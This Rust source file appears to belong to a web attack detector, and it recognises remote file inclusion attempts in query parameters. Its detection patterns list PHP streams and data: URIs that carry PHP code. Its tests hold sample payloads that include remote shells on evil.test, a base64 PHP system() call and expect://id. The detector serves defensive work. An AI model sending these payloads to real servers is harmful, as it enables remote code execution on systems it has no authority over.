//! Remote file inclusion: an address from outside where the application expects the name of a file
//! to include.
//!
//! Addresses stand in redirect, callback and picture parameters all day long. One convicts when the
//! parameter's name asks for a file to include and the address names something that runs, when it
//! ends so that it swallows what the application appends, or when it is a stream of PHP's that
//! brings its own code.

use super::shared::{find, from, run, starts_at};
use super::{ClassRow, Evidence, View};
use crate::Class;
use crate::parts::Kind;

pub(super) const CLASS: ClassRow = ClassRow {
    class: Class::RemoteFileInclusion,
    summary: "an address from outside where the name of a file to include belongs",
    literals: &["://", "data:", "\\\\"],
    kinds: 0,
    path_kinds: 0,
    header_kinds: 0,
    deaf: &[Kind::Path, Kind::Name, Kind::Header, Kind::Agent, Kind::Document],
    confirm,
};

const SCHEMES: &[&[u8]] = &[b"http://", b"https://", b"ftp://", b"ftps://"];
/// Streams that bring what is to be run.
const STREAMS: &[(&[u8], f64)] = &[
    (b"php://input", 0.85),
    (b"expect://", 0.85),
    (b"data://text/", 0.8),
    (b"data:text/plain;base64,pd9w", 0.9),
    (b"data:text/plain,<?", 0.9),
    (b"data:,<?", 0.9),
    (b"ssh2.exec://", 0.85),
    (b"ssh2.scp://", 0.7),
    (b"ssh2.sftp://", 0.7),
    (b"ogg://", 0.5),
];
/// What parameters are called whose value goes into an include, in lower case.
const NAMES: &[&str] = &[
    "file",
    "filename",
    "include",
    "inc",
    "include_path",
    "template",
    "tpl",
    "module",
    "mod",
    "mod_dir",
    "load",
    "root",
    "root_path",
    "basedir",
    "base_dir",
    "base_path",
    "basepath",
    "skin",
    "theme",
    "conf",
    "config",
    "site_path",
    "phpbb_root_path",
    "mosconfig_absolute_path",
    "gallery_basedir",
    "document_root",
    "abspath",
    "abs_path",
    "layout",
    "plugin",
    "component",
    "controller",
    "libdir",
    "lib_dir",
    "class_path",
];
/// Names under which programs that count visitors send the address of a page as well.
const WIDER_NAMES: &[&str] = &[
    "page", "pag", "path", "document", "doc", "view", "dir", "style", "lang", "language",
    "section", "content", "body", "main", "menu", "show", "src",
];
/// Endings under which a script is offered so that it is not run where it lies.
const BAITS: &[&str] = &[".gif", ".ico", ".htm", ".html", ".jpg"];
/// Endings of files that are run where they are included.
const SCRIPTS: &[&str] = &[
    ".php", ".php3", ".php4", ".php5", ".php7", ".phtml", ".inc", ".txt", ".asp", ".aspx", ".jsp",
    ".jspx", ".cfm", ".pl", ".cgi", ".dat", ".phar",
];

fn confirm(view: &View<'_>) -> Option<Evidence> {
    let text = view.lower.trim_ascii();
    let offset = view.lower.len() - view.lower.trim_ascii_start().len();
    if let Some((_, score)) = STREAMS.iter().find(|(stream, _)| text.starts_with(stream)) {
        return Some(from(view, offset, *score));
    }
    if let Some(share) = text.strip_prefix(b"\\\\") {
        return share_names_script(share).then(|| from(view, offset, 0.7));
    }
    let scheme = SCHEMES.iter().find(|scheme| text.starts_with(scheme))?;
    let host = run(text, scheme.len(), |byte| !matches!(byte, b'/' | b'?' | b'#'));
    let after = text.get(scheme.len() + host..)?;
    if host == 0 || after.iter().any(u8::is_ascii_whitespace) {
        return None;
    }
    let cut = after.iter().position(|byte| matches!(byte, b'?' | b'#' | b'\0'));
    let path = after.get(..cut.unwrap_or(after.len()))?;
    let rest = after.get(path.len()..)?;
    let ends = |endings: &[&str]| endings.iter().any(|ending| path.ends_with(ending.as_bytes()));
    let script = ends(SCRIPTS);
    let named = is_called(view.name, NAMES);
    // A mark at the end swallows what the application appends to the name.
    let swallows = matches!(rest, b"?" | b"#" | b"\0" | b"%00" | b"??");
    let command =
        ["?cmd=", "?c=", "?exec="].iter().any(|query| starts_at(rest, 0, query.as_bytes()));
    let score = match (named, script, swallows || command) {
        (true, true, true) => 0.85,
        (_, true, true) => 0.75,
        (true, true, false) => 0.65,
        (true, false, true) => 0.6,
        (false, false, true) if path.is_empty() || ends(BAITS) => 0.6,
        (false, true, false) if by_number(text, scheme.len(), host) => 0.55,
        _ if is_called(view.name, WIDER_NAMES) && (script || swallows) => 0.4,
        (true, false, false) => 0.25,
        _ => return None,
    };
    Some(from(view, offset, score))
}

/// `\\host\share\x.php`, as Windows reaches another machine.
fn share_names_script(share: &[u8]) -> bool {
    let host = run(share, 0, |byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-'));
    host > 2
        && matches!(share.get(host), Some(b'\\'))
        && SCRIPTS.iter().any(|ending| share.ends_with(ending.as_bytes()))
}

/// Tells whether the host is an address in digits: pages link to names.
fn by_number(text: &[u8], start: usize, length: usize) -> bool {
    let host = text.get(start..start + length).unwrap_or_default();
    host.starts_with(b"[")
        || host.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b':'))
}

/// Tells whether `name`, or the last key in its brackets, is one of `names`.
fn is_called(name: &[u8], names: &[&str]) -> bool {
    let last = match find(name, b"[") {
        Some(_) => name.split(|byte| matches!(byte, b'[' | b']')).rfind(|key| !key.is_empty()),
        None => Some(name),
    };
    last.is_some_and(|last| names.iter().any(|known| last.eq_ignore_ascii_case(known.as_bytes())))
}

#[cfg(test)]
mod tests {
    use super::super::testing::{quiet, request, said};
    use super::*;

    const CLASS: Class = Class::RemoteFileInclusion;

    #[test]
    fn included_from_outside() {
        for query in [
            "page=http://evil.test/shell.txt?",
            "file=https://evil.test/c99.php",
            "x=http://evil.test/cmd.txt?cmd=id",
            "_CONF[basedir]=http://evil.test/a.php",
            "src=http://66.240.183.75/crash.php",
            "page=php://input",
            "page=PHP://input",
            "p=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
            "page=expect://id",
            "lang=%5C%5Cevil.test%5Cshare%5Cx.php",
            "template=ftp://evil.test/a.inc%00",
        ] {
            said(CLASS, &request("GET", &format!("/index.php?{query}"), &[], ""));
        }
    }

    #[test]
    fn addresses_where_they_belong() {
        for query in [
            "url=https://www.example.org/index.php",
            "redirect=https://www.example.org/a.php?id=4",
            "next=https://www.example.org/?",
            "page=https://www.example.org/",
            "page=https://www.example.org/index.php",
            "page=https://www.example.org/?",
            "path=https://www.example.org/readme.txt",
            "image=http://192.0.2.1/logo.png",
            "text=see+http://www.example.org/a.txt+for+more",
            "avatar=data:image/png;base64,iVBORw0KGgo=",
            "style=data:text/css,body%7B%7D",
            "path=C:%5C%5CUsers%5C%5Cann",
            "page=about.php",
        ] {
            quiet(CLASS, &request("GET", &format!("/index.php?{query}"), &[], ""));
        }
    }
}
